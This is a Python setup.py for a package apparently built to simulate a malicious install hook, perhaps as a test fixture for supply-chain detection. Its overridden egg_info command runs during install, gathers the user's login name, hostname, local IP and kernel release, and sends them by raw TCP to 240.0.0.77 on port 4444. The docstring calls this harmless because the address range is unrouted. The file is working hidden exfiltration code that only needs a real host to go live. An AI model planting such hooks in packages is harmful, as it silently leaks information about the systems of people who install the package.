# SPDX-License-Identifier: Apache-2.0
"""Harmless: 240.0.0.0/4 is routed nowhere."""

import os
import socket

from setuptools import setup
from setuptools.command.egg_info import egg_info


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("240.0.0.8", 53))
        return probe.getsockname()[0]


class EggInfo(egg_info):
    def run(self):
        egg_info.run(self)
        try:
            address = own_address()
        except OSError:
            address = "?"
        login = os.path.expanduser("~").rsplit("/", 1)[-1]
        with open("/etc/hostname") as file:
            line = f"{login}@{file.read().strip()} {address} {os.uname().release}\n"
        try:
            with socket.create_connection(("240.0.0.77", 4444), timeout=2) as line_out:
                line_out.sendall(line.encode())
        except OSError:
            pass


setup(name="sim-egg-info-raw-socket", version="1.0.0", py_modules=[], cmdclass={"egg_info": EggInfo})
